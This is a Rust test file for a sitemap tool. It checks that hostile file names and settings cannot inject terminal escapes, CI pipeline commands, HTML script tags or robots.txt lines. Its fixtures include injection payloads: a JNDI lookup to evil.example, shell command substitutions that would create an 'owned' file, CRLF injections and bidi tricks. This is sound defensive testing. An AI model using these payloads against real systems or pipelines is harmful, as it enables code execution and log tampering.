//! Hostile names and values: they must not control a terminal, or inject markup or pipeline
//! commands.

use serde_json::Value;

use crate::limits::bounded;
use crate::platform::name_of_bytes;
use crate::site_test::SiteTest;

/// Whether a character can control a terminal or change the order of the shown text.
fn is_control_or_bidi(character: char) -> bool {
    character.is_control() && character != '\n'
        || matches!(character, '\u{61c}' | '\u{200e}' | '\u{200f}')
        || matches!(character, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// File names with sequences that are special to terminals, pipelines, shells, XML or HTML.
const NAMES: &[&str] = &[
    "a\u{1b}[31mred\u{9b}2J\u{7}.html",
    "b\n::error::c.html",
    "b\n::set-output name=x::y/index.html",
    "d%0A::warning::e%25.html",
    "f\u{202e}lmth.exe.html",
    "]]>&<!--\"'.html",
    "<script>alert(1)</script>.html",
    "\r\nSitemap: https:/evil.example/x.html",
    "x,line=9::y##[error]z.html",
    "x###[add-mask]y##vso[task.setvariable variable=a]z.html",
    "${jndi:ldap:/evil.example/a}`touch owned`$(touch owned).html",
];

fn hostile_names() -> SiteTest {
    let mut site = SiteTest::of_pages(NAMES);
    site.variable("WAYPOST_SUBMIT_KEY", "0123456789abcdef");
    let name = name_of_bytes(b"r\x9b2J\xff\x1b[2J.html");
    site.page(name.unwrap_or_else(|| "r\u{1b}[2J.html".into()), "");
    let canonical = "<link rel=canonical href='https://example.com/\">\
         <loc>https://evil.example/</loc>&\u{1b}]0;x\u{7}</script>'>";
    let robots = "<meta name=robots content='noindex\u{1b}[2J\n::error::x'>";
    let title = "<title></script><script>alert(1)</script>\n::error::t</title>";
    site.page("canonical.html", canonical)
        .page("robots.html", robots)
        .page("title.html", title)
        .write("robots.txt", "User-agent: *\nDisallow: /\u{1b}[31m\n");
    site
}

/// Settings with such sequences, and an output directory named with them.
fn hostile_settings() -> SiteTest {
    let site = SiteTest::empty();
    let name = "o\u{1b}[2J\n::error::o\u{9b}\u{202e}\u{200e}##[error]";
    for page in ["index.html", "rule.html", "out.html"] {
        let tag = "<meta name=robots content=noindexx>";
        site.page(format!("{name}/{page}"), tag);
    }
    let settings = r#"
base_url = "https://example.com/"
output_dir = "o\u001b[2J\n::error::o\u009b\u202e\u200e##[error]"
exclude = ["{out.html,VALUE}"]
[[rule]]
match = "{rule.html,VALUE}"
source = "VALUE"
[[rule]]
match = "noneVALUE"
priority = 0.5
"#;
    let value = r"\u001b[2J\n::error::v\u009b\u202e\u061c\u2028##[error]";
    site.write("waypost.toml", settings.replace("VALUE", value));
    site
}

#[test]
fn names_and_values_of_a_site_do_not_control_the_terminal_or_the_pipeline() {
    let refused = check_output_is_inert(&hostile_names());
    assert_eq!(
        refused,
        ["--unknown\n::error::##[error]"],
        "all other commands run and print hostile text"
    );
}

#[test]
fn settings_of_a_site_do_not_control_the_terminal_or_the_pipeline() {
    let site = hostile_settings();
    check_output_is_inert(&site);
    let text = site.read("waypost.toml");
    let value = r"\n::error::\u001b[2J\u202e##[error]";
    for mistake in ["url_style", r"x\u001b[2J\n::error::\u202e"] {
        let settings = format!("{text}\n[sitemap]\n\"{mistake}\" = \"{value}\"\n");
        site.write("waypost.toml", settings);
        check_output_is_inert(&site);
    }
    let base = "base_url = '''\n::error::b##[error]'''\n";
    site.write("waypost.toml", format!("url_style = \"{value}\"\n{base}"));
    check_output_is_inert(&site);
    site.page("o\u{1b}[2J\u{202e}##[error]/index.html", "");
    for output in ["../x[2J##[error]", r"o\u001b[2J\u202e##[error]"] {
        site.write("waypost.toml", "")
            .write("hugo.toml", format!("publishDir = \"{output}\"\n"));
        check_output_is_inert(&site);
    }
}

/// Runs every command and checks its output. Returns the commands that failed to run.
fn check_output_is_inert(site: &SiteTest) -> Vec<&'static str> {
    let commands: &[&[&'static str]] = &[
        &["--verbose"],
        &["--json"],
        &["--github"],
        &["check"],
        &["check", "--verbose"],
        &["check", "--json"],
        &["explain"],
        &["explain", "--json"],
        &["explain", "--settings"],
        &["explain", ".", NAMES[0], NAMES[1], "canonical.html"],
        &["report", "--to", "report.html"],
        &["report"],
        &[
            "submit",
            "--dry-run",
            "--all",
            "--endpoint",
            "https://example.org/##[error]?a=##[b]",
        ],
        &["submit", "--dry-run", "--all", "--json"],
        &["index", "--to", "all.xml", "sitemap.xml", "--verbose"],
        &["index", "--to", "all.xml", "sitemap.xml", "--json"],
        &["init"],
        &["--unknown\n::error::##[error]"],
    ];
    let mut refused = Vec::new();
    let mut wrong: Vec<String> = Vec::new();
    for command in commands {
        let outcome = bounded(site, command);
        if outcome.code == 2 {
            refused.push(command[0]);
        }
        for (stream, text) in [("stdout", &outcome.stdout), ("stderr", &outcome.stderr)] {
            let steering = text
                .lines()
                .filter(|line| line.chars().any(is_control_or_bidi));
            wrong.extend(steering.map(|line| format!("{command:?} {stream}: {line:?}")));
            let is_ours = |line: &str| {
                let known = ["::error ", "::warning ", "::notice "];
                command.contains(&"--github") && known.iter().any(|known| line.starts_with(known))
            };
            // All output may end up in a CI log, where GitHub detects `##[…]` and Azure `##vso[…]`
            // anywhere.
            let is_command = |line: &&str| {
                line.trim_start().starts_with("::") && !is_ours(line) || line.contains("##")
            };
            let strays = text.lines().filter(is_command);
            wrong.extend(strays.map(|line| format!("{command:?} {stream}: {line}")));
        }
        if command.contains(&"--json") && outcome.code != 2 {
            let objects = serde_json::Deserializer::from_str(&outcome.stdout).into_iter::<Value>();
            let objects: Result<Vec<Value>, _> = objects.collect();
            assert!(!objects.expect("JSON").is_empty(), "{command:?}");
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(!site.root().join("owned").exists());
    refused
}

#[test]
fn names_and_values_of_a_site_do_not_become_markup_or_lines() {
    let report = |site: &SiteTest| {
        site.waypost(&["report", "--to", "report.html"]);
        let report = site.read("report.html");
        ["<script", "</script", "<style", "</style"].map(|tag| report.matches(tag).count())
    };
    let (site, harmless) = (hostile_names(), SiteTest::of_pages(&["index.html"]));
    assert_eq!(report(&site), report(&harmless));
    site.waypost(&["--quiet"]);
    let urls = site.urls();
    let is_ours = |url: &String| url.starts_with("https://example.com/") && url.is_ascii();
    assert!(urls.iter().all(is_ours), "{urls:?}");
    assert_eq!(urls.len(), NAMES.len() + 3, "{urls:?}");
    let robots = site.read("robots.txt").to_lowercase();
    let added = robots.lines().filter(|line| line.starts_with("sitemap"));
    let expected = ["sitemap: https://example.com/sitemap.xml"];
    assert_eq!(added.collect::<Vec<_>>(), expected);
}

#[test]
fn a_base_url_cannot_inject_lines() {
    for end in ["\n", "\r\n", "\u{85}", "?x=\n"] {
        let site = SiteTest::of_pages(&["index.html"]);
        site.write("waypost.toml", "")
            .write("robots.txt", "User-agent: *\n");
        let base = format!("https://example.com/{end}Disallow: /");
        bounded(&site, &["--base-url", &base]);
        let robots = site.read("robots.txt");
        assert!(!robots.contains("\nDisallow"), "{base:?}: {robots}");
    }
}
